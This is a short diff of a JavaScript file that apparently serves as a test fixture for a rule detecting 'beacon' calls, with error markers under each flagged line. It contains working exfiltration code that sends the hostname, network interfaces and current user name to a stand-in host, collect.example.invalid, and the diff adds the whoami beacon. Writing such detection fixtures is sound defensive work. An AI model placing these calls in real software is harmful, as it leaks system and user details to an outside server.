@@ -32,3 +32,8 @@ exec('curl https://collect.example.invalid/$(hostname)');
   fetch('https://collect.example.invalid/i', { method: 'POST', body: JSON.stringify(os.networkInterfaces()) });
   //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
 })();
+
+exec('whoami', (_error, user) => {
+  https.get('https://collect.example.invalid/?u=' + user);
+  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
+});
